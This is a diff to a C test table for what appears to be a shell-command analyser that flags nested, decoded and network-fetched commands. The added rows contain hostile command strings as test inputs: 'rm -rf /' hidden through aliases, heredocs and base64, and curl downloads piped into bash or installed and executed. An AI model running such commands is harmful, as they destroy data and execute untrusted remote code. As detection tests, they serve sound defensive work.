@@ -35,6 +35,7 @@ static const struct row wrappers_rows[] = {
 	{ "command rm x; builtin cd /; exec rm y", "",
 	  "command rm x ;; rm x ;; builtin cd / ;; cd / ;; exec rm y ;; rm y" },
 	{ "chroot /mnt rm -rf /", "e", "chroot /mnt rm -rf / ;; rm -rf / deletes*:/" },
+	{ "find . -exec sh -c 'rm x' \\;", "", "find . -exec sh -c rm x ; ;; sh -c rm x {nested} ;; rm x {nested}" },
 };
 
 static const struct row shells_rows[] = {
@@ -86,6 +87,14 @@ static const struct row shells_rows[] = {
 	  "echo ${X} {nested} `\"echo $X; rm $Y\"` ;; rm ${Y} {nested} `\"echo $X; rm $Y\"`" },
 	{ "watch -n 1 'rm x'", "d", "0 watch -n 1 rm x ;; 1 rm x {nested}" },
 	{ "env -S 'rm -rf /'", "", "env -S rm -rf / ;; rm -rf / {nested}" },
+	{ "alias go='rm -rf'; go /", "", "alias go=rm -rf ;; rm -rf {nested} ;; go / ;; rm -rf / {nested}" },
+	{ "bash -s -- rm <<< '$1 -rf /'", "", "bash -s -- rm ;; rm -rf / {nested}" },
+	{ "bash /dev/fd/3 3<<< 'rm x'", "", "bash /dev/fd/3 ;; rm x {nested}" },
+	{ "parallel rm -rf ::: /etc /usr", "", "parallel rm -rf ::: /etc /usr ;; rm -rf /etc /usr {nested}" },
+	{ "X=$(curl -s http://203.0.113.10/x); echo \"$X\" | bash", "c",
+	  "curl -s http://203.0.113.10/x ;; X=$(curl -s http://203.0.113.10/x) ;; "
+	  "echo $(curl -s http://203.0.113.10/x) ;; "
+	  "bash code?[$(curl -s http://203.0.113.10/x)~]<network>" },
 };
 
 static const struct row interpreters_rows[] = {
@@ -158,6 +167,18 @@ static const struct row files_rows[] = {
 	{ "cat a.b64 > x; base64 -d x | sh", "c", "cat a.b64 ;; base64 -d x ;; sh code?[$(base64 -d x)]<decoded,file>" },
 	{ "echo cm0gLXJmIC8= > x; base64 -d < x | sh", "c",
 	  "echo cm0gLXJmIC8= ;; base64 -d ;; sh code[rm -rf /]<decoded,literal> ;; "
+	  "rm -rf / {nested,decoded}" },
+	{ "cat <(echo 'rm x') | bash", "c",
+	  "echo rm x ;; cat <(echo 'rm x') ;; bash code[rm x]<literal> ;; rm x {nested}" },
+	{ "echo 'rm' > a; echo ' x' > b; cat a b | tr -d '\\n' | sh", "c",
+	  "echo rm ;; echo  x ;; cat a b ;; tr -d \\n ;; sh code[rm x]<literal> ;; rm x {nested}" },
+	{ "curl -s http://203.0.113.1/x > x; cat x | sh", "c",
+	  "curl -s http://203.0.113.1/x ;; cat x ;; sh code?[$(curl -s http://203.0.113.1/x)]<network>" },
+	{ "curl -s http://203.0.113.1/x | tee /usr/local/bin/t >/dev/null; t", "ec",
+	  "curl -s http://203.0.113.1/x ;; tee /usr/local/bin/t writes:/usr/local/bin/t ;; "
+	  "t executes:/usr/local/bin/t code?[$(curl -s http://203.0.113.1/x)]<network>" },
+	{ "echo cm0gLXJmIC8= > x; base64 -d x > y; sh y", "c",
+	  "echo cm0gLXJmIC8= ;; base64 -d x ;; sh y code[rm -rf /]<decoded,literal> ;; "
 	  "rm -rf / {nested,decoded}" },
 };
 
